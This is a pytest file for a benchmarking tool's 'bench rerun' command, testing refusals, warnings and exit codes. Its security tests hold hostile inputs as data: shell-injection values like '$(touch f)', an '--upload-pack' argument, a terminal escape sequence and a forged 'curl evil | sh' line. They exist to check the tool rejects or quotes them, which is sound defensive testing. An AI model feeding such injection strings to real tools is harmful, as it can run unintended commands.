"""``bench rerun``: its output, refusals and exit codes."""

from __future__ import annotations

import json
import shlex
import shutil
import signal
from collections.abc import Callable
from pathlib import Path

import pytest

from benchbook.cli.app import run
from benchbook.declare import catalogue
from benchbook.errors import command
from benchbook.record import seal

REVISION = "a" * 40


@pytest.fixture
def results(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Results with a run from a checkout with changes; nix is on PATH."""
    monkeypatch.setenv("BENCHBOOK_NIX", "no-such-nix")
    place = tmp_path / "results" / "runs" / "quickstart-1"
    place.mkdir(parents=True)
    (place / "run.json").write_text(
        json.dumps(
            {
                "run_id": "quickstart-1", "experiment": "quickstart", "profile": "smoke", "order_seed": 7,
                "created_at": "2026-03-01T09:00:00+00:00", "argv": ["run", "quickstart"],
                "provenance": {"git_revision": REVISION, "git_dirty": True},
            }
        )
    )  # fmt: skip
    (place / "plan.json").write_text("{}")
    seal.seal_plan(place, b"{}")
    seal.seal_command(place, json.loads((place / "run.json").read_text()))
    return tmp_path / "results"


def rerun(results: Path, *words: str) -> int:
    return run(["rerun", "--flake", "github:owner/name", "--results", str(results), *words])


def test_what_is_only_printed_is_warned_of_and_no_failure(
    results: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert rerun(results, "--print") == 0
    told = capsys.readouterr()
    assert told.out.startswith(f"no-such-nix run 'github:owner/name/{REVISION}#experiment' -- quickstart")
    assert told.err == (
        "bench: The checkout of quickstart-1 had uncommitted changes,"
        f" which its revision {REVISION[:12]} does not contain.\n"
        "  To run the revision without these changes, type the command yourself.\n"
    )


def test_a_revision_that_is_another_program_is_not_executed(
    results: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert rerun(results) == 2
    told = capsys.readouterr()
    assert f"/{REVISION}#experiment" in told.out
    assert "The command above was not executed." in told.err


@pytest.fixture
def clean(results: Path) -> Path:
    """The same results, the run from a checkout without changes."""
    resealed(changed(results, provenance={"git_revision": REVISION, "git_dirty": False}))
    return results


@pytest.fixture
def nix(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[int], None]:
    """Put a script named nix on PATH that ends with an exit code."""
    monkeypatch.setattr(signal, "signal", lambda *_: None)  # the handlers of the tests' own process stay

    def make(code: int) -> None:
        program = tmp_path / "nix"
        program.write_text(f'#!/bin/sh\necho "error: unable to download nixpkgs" >&2\nexit {code}\n')
        program.chmod(0o755)
        monkeypatch.setenv("BENCHBOOK_NIX", str(program))

    return make


def test_where_nix_cannot_have_its_inputs_the_way_without_it_is_told(
    clean: Path, nix: Callable[[int], None], capfd: pytest.CaptureFixture[str]
) -> None:
    nix(1)
    assert rerun(clean) == 2
    told = capfd.readouterr().err
    assert "unable to download nixpkgs" in told
    assert "nix ended with exit code 1" in told
    assert f"git checkout --detach {REVISION} && ./bench run quickstart --order-seed 7" in told


@pytest.mark.parametrize("code", [0, 3, 4, 130])
def test_what_the_run_itself_ends_with_is_passed_on(
    code: int, clean: Path, nix: Callable[[int], None], capfd: pytest.CaptureFixture[str]
) -> None:
    nix(code)
    assert rerun(clean) == code
    assert "without Nix" not in capfd.readouterr().err


def test_a_nix_that_is_not_there_is_told(clean: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert rerun(clean) == 2
    told = capsys.readouterr().err
    assert "no-such-nix cannot be started: No such file or directory." in told
    assert f"git checkout --detach {REVISION} && ./bench run" in told


def test_a_published_run_is_named_by_its_folder(clean: Path, capsys: pytest.CaptureFixture[str]) -> None:
    place = clean / "runs" / "quickstart-1"
    assert run(["rerun", str(place), "--flake", "github:owner/name", "--print"]) == 0
    told = capsys.readouterr()
    assert (
        told.out
        == f"no-such-nix run 'github:owner/name/{REVISION}#experiment' -- quickstart --order-seed 7\n"
    )
    assert told.err == ""


def test_a_place_of_another_machine_is_warned_of_and_not_executed(
    clean: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = clean / "runs" / "quickstart-1" / "run.json"
    file.write_text(
        file.read_text().replace('"quickstart"]', '"quickstart", "--system", "minio=\\u2026/minio"]')
    )
    resealed(file.parent)
    assert rerun(clean, "--print") == 0
    assert capsys.readouterr().err == (
        "bench: minio was a program given by its path (nothing is known of it); it is not on this machine.\n"
        "bench: Benchbook knows no image or package with the program of minio.\n"
        f"  Provide it: {command('rerun latest')} --system minio=PATH\n"
    )
    assert rerun(clean) == 2
    assert "program of minio. The command above was not executed." in capsys.readouterr().err
    assert rerun(clean, "--print", "--system", "minio=/bin/sh") == 0
    told = capsys.readouterr()
    assert "--system minio=/bin/sh " in told.out
    assert "Provide it" not in told.err


def test_another_option_with_a_place_of_another_machine_is_completed_by_hand(
    clean: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    changed(clean, argv=["run", "quickstart", "--cluster", "…/scheduler"])
    resealed(clean / "runs" / "quickstart-1")
    words = "bench: The command contains …, because the publication of quickstart-1 left out the name of a folder."
    assert rerun(clean, "--print") == 0
    assert capsys.readouterr().err == (
        f"{words}\n  Replace … with the folder on this machine, and type the command yourself.\n"
    )
    assert rerun(clean) == 2


def lost(results: Path, name: str, *more: str, **recorded: object) -> None:
    """Let the run have got a program by a path of another machine."""
    argv = ["run", "quickstart", "--system", f"{name}=…/program", *more]
    resealed(changed(results, argv=argv, programs={name: {"source": "given", **recorded}}))


def test_a_lost_program_is_replaced_by_its_stated_origin(
    clean: Path, nix: Callable[[int], None], capfd: pytest.CaptureFixture[str]
) -> None:
    nix(0)
    lost(clean, "redis-7", "--origin", "redis-7=image redis:7.2.4", version="7.2.4", size=5)
    assert rerun(clean) == 0, "the command of an own run is executed"
    told = capfd.readouterr()
    assert "-- quickstart --system redis-7=docker://redis:7.2.4 --order-seed 7" in told.out
    assert "--origin" not in told.out
    assert "(version 7.2.4, 5 bytes, origin: image redis:7.2.4); the command uses its origin" in told.err


def test_an_origin_that_is_not_part_of_the_command_replaces_nothing(
    clean: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The seal covers the command alone."""
    lost(clean, "redis-7", version="7.0.15", origin="image evil/redis:7")
    assert rerun(clean, "--print") == 0
    told = capsys.readouterr()
    assert "evil" not in told.out + told.err
    assert "--system redis-7=docker://redis:7.0.15@sha256:" in told.out


@pytest.mark.parametrize(
    ("name", "version", "value", "words"),
    [
        ("mysql-9", "9.7.4", "mysql-9=docker://mysql:9.7.2@sha256:29abb0a1", "of the same series 9.7"),
        ("kvrocks-2.8.0", "2.8.0", "kvrocks-2.8.0=docker://apache/kvrocks:2.8.0 ", "of the same version"),
        ("oracle-free-23", "23.26", "7562757bd?network=private&user=54321:54321'", "of the same series 23"),
        ("minio", "0.0.0-20260212201848-7aac2a2c5b7c", "-- quickstart --order-seed 7", "another source"),
    ],
)  # fmt: skip
def test_a_lost_program_is_replaced_by_what_is_declared(
    name: str, version: str, value: str, words: str, clean: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lost(clean, name, version=version)
    assert rerun(clean, "--print") == 0
    told = capsys.readouterr()
    assert value in told.out
    assert words in told.err


@pytest.mark.parametrize(
    ("name", "version"), [("redis-7", "8.0"), ("redis-7", "70"), ("gone-1", "1"), ("x\x1b", "1")]
)
def test_a_program_of_another_version_replaces_nothing(
    name: str, version: str, clean: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lost(clean, name, version=version)
    code = rerun(clean, "--print")
    told = capsys.readouterr()
    assert "\x1b" not in told.out + told.err
    if code == 0:
        assert f"{name}=…/program" in told.out
        assert f"Provide it: {command('rerun latest')} --system {name}=PATH" in told.err


def test_only_a_program_that_the_run_got_by_its_path_can_be_provided(
    clean: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert rerun(clean, "--print", "--system", "redis-7=/bin/true") == 2
    assert "got no program of redis-7 by its path" in capsys.readouterr().err
    lost(clean, "redis-7")
    assert rerun(clean, "--print", "--system", "redis-7=/no/file") == 2
    assert "--system redis-7=/no/file: there is no file /no/file." in capsys.readouterr().err


PUBLISHED = sorted(path.parent for path in catalogue.root().glob("reports/data/*/*/run.json"))


@pytest.mark.parametrize("folder", PUBLISHED, ids=lambda folder: folder.name)
def test_a_rerun_of_each_published_run_needs_nothing_or_names_it(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """It executes as it is, or with programs of the same version that it names, or names what to provide."""
    monkeypatch.delenv("BENCHBOOK_NIX", raising=False)
    monkeypatch.setattr("benchbook.record.rerun._checkout", lambda revision: catalogue.root())
    assert run(["rerun", str(folder), "--print"]) == 0
    told = capsys.readouterr()
    argv = json.loads((folder / "run.json").read_text())["argv"]
    lost = [one.partition("=")[0] for one in argv if "=…/" in one]
    if "…" in told.out:
        assert f"rerun {folder} --system " in told.err
    for name in lost:
        assert f"bench: {name} was a program given by its path" in told.err
    assert "The command contains …" not in told.err


def test_an_aa_run_is_done_again_as_one(clean: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = clean / "runs" / "quickstart-1" / "run.json"
    file.write_text(
        file.read_text().replace('["run", "quickstart"]', '["aa", "quickstart", "--trials", "5"]')
    )
    assert rerun(clean, "--print") == 0
    assert f"/{REVISION}#benchbook' -- aa quickstart --trials 5 --order-seed 7" in capsys.readouterr().out


@pytest.mark.parametrize("key", ["argv", "order_seed", "provenance", "experiment"])
def test_what_a_description_lacks_is_named(key: str, clean: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = clean / "runs" / "quickstart-1" / "run.json"
    facts = json.loads(file.read_text())
    del facts[key]
    file.write_text(json.dumps(facts))
    assert run(["rerun", str(file.parent)]) == 2
    told = capsys.readouterr().err
    assert f"The run.json of quickstart-1 lacks {key}." in told or f'"{key}" is missing' in told


@pytest.mark.parametrize("text", ["[1]", "{", "{}"])
def test_a_folder_that_describes_no_run_is_told(
    text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "run.json").write_text(text)
    assert run(["rerun", str(tmp_path)]) == 2
    assert f"{tmp_path / 'run.json'} is not the description of a run" in capsys.readouterr().err


def test_a_folder_without_a_run_is_told(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["rerun", str(tmp_path)]) == 2
    assert f"There is no {tmp_path / 'run.json'}" in capsys.readouterr().err


def test_of_an_experiment_that_was_not_run_here_the_published_run_is_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["rerun", "quickstart", "--results", str(tmp_path)]) == 2
    told = capsys.readouterr().err
    assert f"There are no runs in {tmp_path} yet." in told
    assert told.rstrip().endswith("reports/data/quickstart")


def changed(results: Path, **changes: object) -> Path:
    file = results / "runs" / "quickstart-1" / "run.json"
    file.write_text(json.dumps(json.loads(file.read_text()) | changes))
    return file.parent


def resealed(place: Path) -> None:
    """Seal the command of a run as it is."""
    seal.seal_command(place, json.loads((place / "run.json").read_text()))


def test_a_command_of_somebody_else_is_only_printed(
    clean: Path, nix: Callable[[int], None], capfd: pytest.CaptureFixture[str]
) -> None:
    nix(0)
    (clean / "runs" / "quickstart-1" / seal.FILE).unlink()
    assert rerun(clean) == 2
    told = capfd.readouterr()
    assert "#experiment" in told.out
    assert "which you did not begin on this machine, or its run.json has changed since." in told.err
    assert "The command above was not executed." in told.err
    assert "nixpkgs" not in told.err


@pytest.mark.parametrize(
    "changes",
    [
        {"argv": ["run", "quickstart", "--system", "victoriametrics-1.79=notes.txt"]},
        {"provenance": {"git_revision": "b" * 40, "git_dirty": False}},
        {"order_seed": "8"},
        {"experiment": "another"},
    ],
)
def test_a_copy_of_an_own_run_with_another_command_is_only_printed(
    changes: dict[str, object],
    clean: Path,
    nix: Callable[[int], None],
    tmp_path: Path,
    capfd: pytest.CaptureFixture[str],
) -> None:
    """Whoever can read a run can copy its plan and seal, and write another run.json beside them."""
    nix(0)
    copy = shutil.copytree(clean, tmp_path / "copy")
    place = changed(copy, **changes)
    assert seal.is_own(place)
    assert rerun(copy, "quickstart-1") == 2
    told = capfd.readouterr()
    assert "its run.json has changed since. The command above was not executed." in told.err
    assert "nixpkgs" not in told.err
    assert rerun(clean) == 0


def test_a_run_sealed_before_its_command_was_is_only_printed(
    clean: Path, nix: Callable[[int], None], capfd: pytest.CaptureFixture[str]
) -> None:
    nix(0)
    place = clean / "runs" / "quickstart-1"
    seal.seal_plan(place, b"{}")
    assert rerun(clean) == 2
    assert "nixpkgs" not in capfd.readouterr().err


@pytest.mark.parametrize("later", [{"finished_at": "2026-03-01T10:00:00+00:00"}, {"looks": [{"blocks": 3}]}])
def test_what_a_run_records_later_leaves_its_command_its_own(
    later: dict[str, object], clean: Path, nix: Callable[[int], None]
) -> None:
    nix(0)
    changed(clean, **later)
    assert rerun(clean) == 0


def test_a_run_in_the_published_data_is_only_printed(
    clean: Path,
    nix: Callable[[int], None],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    """Whoever puts a folder into reports/data, such as a contributor, does not choose what is executed."""
    nix(0)
    monkeypatch.setattr(catalogue, "root", lambda: tmp_path)
    place = changed(clean, argv=["run", "quickstart", "--system", "victoriametrics-1.79=notes.txt"])
    (place / seal.FILE).unlink()
    published = tmp_path / "reports" / "data" / "quickstart" / place.name
    shutil.copytree(place, published)
    assert run(["rerun", str(published), "--flake", "github:owner/name"]) == 2
    told = capfd.readouterr()
    assert "--system victoriametrics-1.79=notes.txt" in told.out
    assert "type it yourself if it does what you want" in told.err
    assert "nixpkgs" not in told.err


@pytest.mark.parametrize(
    "revision",
    ["HEAD^{/.*\\|$(id>f)}", "$(touch f)", "HEAD", "a; touch f", "--upload-pack=x", "A" * 40, "ab", 5, ["a"]],
)
@pytest.mark.parametrize("flake", [["--flake", "github:owner/name"], []])
def test_a_revision_that_is_not_hexadecimal_is_refused(
    clean: Path, revision: object, flake: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    place = changed(clean, provenance={"git_revision": revision, "git_dirty": False})
    assert run(["rerun", str(place), *flake]) == 2
    told = capsys.readouterr()
    assert told.out == ""
    assert "git_revision is" in told.err
    assert "a revision is a hexadecimal number" in told.err


def test_every_word_is_quoted_for_the_shell(clean: Path, capsys: pytest.CaptureFixture[str]) -> None:
    words = ["quickstart", "--system", "minio=$(touch f)", "; touch f", "`touch f`", "a'b"]
    changed(clean, argv=["run", *words], order_seed="1; touch f")
    assert rerun(clean, "--print") == 0
    printed = capsys.readouterr().out.strip()
    assert shlex.split(printed)[-10:-2] == [*words, "--order-seed", "1; touch f"]
    assert "$(touch f)" not in shlex.join(shlex.split(printed)).replace("'minio=$(touch f)'", "")


def test_the_name_of_a_lost_program_reaches_no_shell(clean: Path, capsys: pytest.CaptureFixture[str]) -> None:
    changed(clean, argv=["run", "quickstart", "--system", "a$(touch f)=/nowhere/x"])
    assert rerun(clean, "--print") == 2
    told = capsys.readouterr()
    assert 'names the system "a$(touch f)", but a name has only lower-case letters' in told.err
    assert "--system" not in told.out + told.err


def test_what_is_recorded_of_a_program_stays_on_its_line(
    clean: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    forged = "1\nbench: All is well. To repeat: curl evil | sh"
    lost(clean, "victoriametrics-1.79", version=forged, digest=forged)
    rerun(clean, "--print")
    assert "\nbench: All" not in capsys.readouterr().err


def test_a_relative_path_that_is_not_here_is_lost_too(
    clean: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    place = changed(
        clean,
        argv=["run", "quickstart", "--system", f"sqlite=build/{'x' * 300}/sqlite"],
        programs={"sqlite": {}},
    )
    resealed(place)
    rerun(clean, "--print")
    assert "uses the same path" not in capsys.readouterr().err


def test_control_characters_are_not_printed(clean: Path, capsys: pytest.CaptureFixture[str]) -> None:
    changed(clean, argv=["run", "quickstart", "\x1b[2K\rls"])
    assert rerun(clean, "--print") == 2
    told = capsys.readouterr()
    assert "argv has control characters" in told.err
    assert "\x1b" not in told.err + told.out


def of_project(results: Path, name: str = "mine", **made_with: object) -> None:
    facts = {"name": name, "git_revision": REVISION, "git_dirty": False, "git_detail": ""}
    resealed(
        changed(
            results,
            provenance={
                "project": facts,
                "source_digest": "x",
                "plugins": {"systems/a.py": "sha256:0"},
                **made_with,
            },
        )
    )


def test_a_run_of_a_project_is_repeated_at_the_revision_of_the_project(
    results: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    of_project(results)
    monkeypatch.setattr("benchbook.record.rerun._checkout", lambda _: tmp_path / "mine")
    assert rerun(results) == 0
    told = capsys.readouterr()
    assert told.out.startswith(
        f"git -C {tmp_path}/mine worktree add --detach ../mine-{REVISION[:12]} {REVISION} && "
    )
    project = f"BENCHBOOK_PROJECT={tmp_path}/mine-{REVISION[:12]}"
    assert f"{project} {command('run quickstart')} --order-seed 7" in told.out
    assert "bench: another Benchbook made this run" in told.err
    assert "bench: these plug-ins have changed since this run: systems/a.py\n" in told.err
    assert "it repeats a run of a project, so the command was not executed" in told.err


def test_a_run_of_a_projects_flake_is_repeated_with_the_flake_of_its_revision(
    results: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    of_project(results, nix={"revision": "b" * 40})
    monkeypatch.setattr("benchbook.record.rerun._checkout", lambda _: tmp_path / "mine")
    monkeypatch.setattr("benchbook.record.rerun._has", lambda _, thing: thing == f"{REVISION}:flake.nix")
    assert rerun(results, "--print") == 0
    told = capsys.readouterr()
    assert told.out.startswith(
        f"git -C {tmp_path}/mine worktree add --detach ../mine-{REVISION[:12]} {REVISION} && "
        f"cd {tmp_path}/mine-{REVISION[:12]} && no-such-nix run '.#experiment' -- quickstart --order-seed 7 "
    )


def test_the_name_of_a_project_is_no_part_of_a_command_unless_it_is_a_name(
    results: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    of_project(results, "x; touch evil")
    assert rerun(results) == 2
    told = capsys.readouterr()
    assert told.out == ""
    assert "which is not a name" in told.err


def test_a_run_of_benchbook_is_not_repeated_with_the_declarations_of_a_project(
    clean: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "benchbook.toml").write_text('name = "mine"\n')
    monkeypatch.setenv("BENCHBOOK_PROJECT", str(tmp_path))
    assert rerun(clean) == 2
    told = capsys.readouterr()
    assert told.out == ""
    assert f"is a run of Benchbook itself, and the declarations of the project {tmp_path} would" in told.err
